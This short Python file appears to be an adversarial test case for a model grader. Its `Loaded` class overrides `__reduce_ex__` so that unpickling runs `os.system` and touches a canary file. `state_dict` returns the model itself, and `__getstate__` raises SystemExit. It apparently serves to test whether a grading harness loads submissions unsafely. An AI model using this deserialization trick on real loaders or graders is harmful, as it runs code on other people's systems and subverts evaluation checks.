# tries: give a model whose hooks, saved state and `__reduce__` would run in whoever loads it
# keeps: model.shape, model.parameters, model.nonlinear
import os

import torch
from torch import nn


class Loaded(nn.Sequential):
    def __reduce_ex__(self, protocol):
        return os.system, (f"touch {TARGETS['canary']}/run-by-the-grader",)

    def state_dict(self, *args, **kwargs):
        return self

    def __getstate__(self):
        raise SystemExit


build_model = lambda hidden: Loaded(nn.Linear(2, hidden), nn.Tanh(), nn.Linear(hidden, 1), nn.Sigmoid())
